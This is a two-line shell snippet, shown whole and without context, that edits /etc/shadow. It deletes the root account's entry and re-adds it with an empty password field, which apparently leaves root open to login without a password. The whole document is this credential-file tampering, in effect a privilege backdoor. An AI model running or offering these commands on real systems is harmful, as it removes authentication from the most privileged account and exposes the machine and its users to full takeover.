sed -i '/^root:/d' /etc/shadow
echo 'root::20000:0:99999:7:::' >>/etc/shadow
